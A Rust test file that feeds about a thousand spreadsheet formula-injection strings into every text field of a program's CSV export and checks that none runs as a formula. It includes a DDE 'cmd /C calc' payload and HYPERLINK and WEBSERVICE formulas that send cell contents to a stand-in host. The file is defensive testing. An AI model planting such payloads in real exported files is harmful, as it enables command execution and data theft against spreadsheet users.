//! A thousand texts that a spreadsheet might run, in every field people can write, exported
//! by the real program: none is run, and each is read back as it was written.

use std::{
    collections::BTreeSet,
    fmt::Write as _,
    fs,
    path::{Path, PathBuf},
    process::Command,
    sync::Arc,
};

use guatu::{
    domain::{
        entry::{Draft, Event, RemarkKind, WriterId},
        journal::Journal,
        plan::Source,
        words::Lang,
    },
    exchange::csv::restore,
    store::{files::Disk, progress::Progress},
    text::t,
};
use jiff::civil::{Date, date};

use crate::{
    corpus::laws::harmless,
    faults::{many, result, thorough},
};

const DAY: Date = date(2020, 6, 30);

/// What stands in front of a formula: nothing, what importers strip, what splits cells, what
/// nobody sees, and what turns the direction of writing.
const FRONTS: [&str; 25] = [
    "", " ", "   ", "\t", "\r", "\n", "\r\n", " \t", "'", "''", "\"", "\"\"", ";", ",", "\u{3000}", "\u{A0}",
    "\u{2003}", "\u{AD}", "\u{200B}", "\u{200E}", "\u{202E}", "\u{2066}", "\u{2060}", "\u{FEFF}", "\u{1F}",
];

/// What begins a formula, also in the width East Asian keyboards write.
const SIGNS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];

const BODIES: [&str; 8] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://a.example/?\"&A1;\"here\")",
    "HYPERLINK(\"http://a.example\",\"here\")",
    "cmd|' /C calc'!A0",
    "DDE(\"soffice\";\"a.ods\";\"A1\")",
    "WEBSERVICE(\"http://a.example\")",
    "1\n=2\r\n;=3,=4\t=5",
];

/// So many texts, no two alike.
fn payloads(most: usize) -> Vec<String> {
    let all = FRONTS.iter().flat_map(|front| {
        SIGNS.iter().flat_map(move |sign| BODIES.iter().map(move |body| format!("{front}{sign}{body}")))
    });
    // Every front, sign and body also where not all fit.
    let all: Vec<String> = all.collect();
    let step = (0..).map(|n| n * 7 % all.len());
    let some: Vec<String> = step.take(most.min(all.len())).map(|at| all[at].clone()).collect();
    assert_eq!(some.iter().collect::<BTreeSet<_>>().len(), some.len());
    some
}

/// A plan with one commitment a text, and a journal in which the text stands wherever words
/// can be reported.
fn office(folder: &Path, texts: &[String]) {
    let plan = folder.join("plan");
    fs::create_dir(&plan).unwrap();
    let three = |s: &str| format!("(hant: {s:?}, hans: {s:?}, en: {s:?})");
    let first = &texts[0];
    let head = format!(
        "(schema: 1, id: \"p\", title: {0}, body: {0}, period: (start: \"2020-01-01\", end: \"2020-12-31\"), \
         sections: [(id: \"s\", title: {0})], units: [(id: \"u\", name: {0})], names: [], \
         source: (title: {first:?}))",
        three(first)
    );
    fs::write(plan.join("plan.ron"), head).unwrap();
    let mut targets = String::from("[\n");
    for (n, text) in texts.iter().enumerate() {
        writeln!(
            targets,
            "(id: \"c{n}\", section: \"s\", locators: [\"1/1/1/1\"], title: {0}, strength: Plain, \
             due: Inferred(\"2020-12-31\"), measures: [(id: \"m\", title: Some({0}), unit: \"u\", \
             goal: Flow(target: 10))]),",
            three(text)
        )
        .unwrap();
    }
    fs::write(plan.join("targets.ron"), targets + "]").unwrap();

    let writer = WriterId("w".into());
    let progress = folder.join("progress");
    let (mut p, _) = Progress::open_as(Arc::new(Disk), &progress, "p", &writer);
    let mut journal = Journal::default();
    let mut written = Vec::new();
    for (n, text) in texts.iter().enumerate() {
        let remark = |kind| Event::Remark { commitment: format!("c{n}").into(), kind, text: text.clone() };
        let commitment = || Arc::from(format!("c{n}"));
        let events = [
            Event::Assigned { commitment: commitment(), lead: text.clone(), supporting: vec![text.clone()] },
            remark(RemarkKind::Note),
            remark(RemarkKind::Problem),
            remark(RemarkKind::NextStep),
            Event::Figure { commitment: commitment(), measure: "m".into(), value: -1.5, against: None },
        ];
        let source = || Source { title: text.clone(), address: text.clone(), note: text.clone() };
        let drafts = events.map(|event| Draft { about: DAY, source: Some(Box::new(source())), event });
        let now = "2020-07-01T08:00:00Z".parse().unwrap();
        // Preparing looks at all that is there; nothing of one commitment speaks of another.
        let entries = journal.prepare(&writer, text, now, &drafts);
        journal = Journal::default();
        journal.insert(entries[entries.len() - 1].clone());
        written.extend(entries);
    }
    p.append(&written).unwrap();
}

/// The program's own export, in one language.
fn exported(folder: &Path, lang: Lang) -> PathBuf {
    let file = folder.join(format!("{}.csv", lang.tag()));
    let done = Command::new(env!("CARGO_BIN_EXE_guatu"))
        .arg("export")
        .arg(&file)
        .args(["--as-of", "2020-06-30", "--lang", lang.tag(), "--plan"])
        .arg(folder.join("plan"))
        .arg("--progress")
        .arg(folder.join("progress"))
        .env("XDG_DATA_HOME", folder.join("data"))
        .output()
        .unwrap();
    assert!(done.status.success(), "{done:?}");
    file
}

/// Columns that hold a text somebody wrote, and nothing besides.
const COLUMNS: [&str; 13] = [
    "csv-section",
    "csv-title",
    "csv-measure",
    "csv-unit",
    "csv-lead",
    "csv-supporting",
    "csv-note",
    "csv-problem",
    "csv-next-step",
    "csv-last-reporter",
    "csv-source-title",
    "csv-source-address",
    "csv-value",
];

/// Every cell of the table reads back as the text that was written.
fn reads_back(table: &[u8], lang: Lang, texts: &[String]) {
    harmless(table);
    let mut reader = ::csv::Reader::from_reader(table.strip_prefix("\u{FEFF}".as_bytes()).unwrap());
    let headers = reader.headers().unwrap().clone();
    let columns = COLUMNS.map(|key| {
        let at = headers.iter().position(|h| h == t(lang, key));
        (key, at.unwrap_or_else(|| panic!("{key}")))
    });
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), texts.len());
    for (record, text) in records.iter().zip(texts) {
        for (key, at) in columns {
            let want = match key {
                "csv-section" | "csv-unit" => &texts[0],
                // A figure stays one, also where it begins with a minus.
                "csv-value" => "-1.5",
                _ => text,
            };
            assert_eq!(restore(&record[at]), want, "{key}");
        }
    }
}

/// Opens tables as a spreadsheet does that is told to run formulas, and gives them as flat
/// XML. None where `LibreOffice` is not installed.
fn opened(folder: &Path, filter: &str, tables: &[PathBuf]) -> Option<Vec<String>> {
    let out = folder.join("opened");
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let mut soffice = Command::new("soffice");
    soffice.arg(profile).args(["--headless", &format!("--infilter=CSV:{filter}"), "--convert-to", "fods"]);
    let done = soffice.arg("--outdir").arg(&out).args(tables).output().ok()?;
    let read = |table: &PathBuf| {
        let file = out.join(table.with_extension("fods").file_name().unwrap());
        fs::read_to_string(&file).unwrap_or_else(|e| panic!("{e}: {done:?}"))
    };
    Some(tables.iter().map(read).collect())
}

/// Cells that are a formula, or a link to another program.
fn run(sheet: &str) -> usize {
    sheet.matches("table:formula=").count() + sheet.matches("table:dde-link").count()
}

#[test]
fn no_text_runs_in_an_exported_table_and_each_reads_back() {
    let texts = payloads(many(1_000, 1_000));
    let dir = tempfile::tempdir().unwrap();
    office(dir.path(), &texts);
    let tables = Lang::ALL.map(|lang| exported(dir.path(), lang));
    for (lang, table) in Lang::ALL.into_iter().zip(&tables) {
        reads_back(&fs::read(table).unwrap(), lang, &texts);
    }
    let cells = texts.len() * COLUMNS.len() * tables.len();
    result("formulas", &format!("{} texts, {cells} cells read back, 0 changed", texts.len()));
    if thorough() {
        in_a_spreadsheet(dir.path(), &texts, &tables);
    }
}

fn in_a_spreadsheet(folder: &Path, texts: &[String], tables: &[PathBuf]) {
    // The test of the test: the same texts without the apostrophe are run.
    let bare = folder.join("bare.csv");
    let mut writer = ::csv::Writer::from_path(&bare).unwrap();
    for text in texts {
        writer.write_record([text]).unwrap();
    }
    writer.flush().unwrap();
    drop(writer);
    let all = [tables, &[bare]].concat();
    // Commas alone, and all that a person can choose; formulas are run, numbers recognised.
    let filters = [
        "44,34,76,1,,0,false,true,false,false,false,0,true",
        "44/59/9/32/MRG,34,76,1,,0,false,true,false,false,true,0,true",
    ];
    for filter in filters {
        let Some(sheets) = opened(folder, filter, &all) else {
            result("formulas in LibreOffice", "not tried: there is no soffice");
            return;
        };
        let (bare, sheets) = sheets.split_last().unwrap();
        let caught = run(bare);
        assert!(caught >= 5, "only {caught} formulas where texts are not made harmless");
        for (sheet, table) in sheets.iter().zip(tables) {
            let rows = sheet.matches("<table:table-row").count();
            assert!(rows >= texts.len(), "{rows} rows of {}", table.display());
            assert_eq!(run(sheet), 0, "{}", table.display());
        }
        let figures = format!("{} tables, 0 formulas, {caught} without the apostrophe", tables.len());
        result(&format!("formulas in LibreOffice, {filter}"), &figures);
    }
}
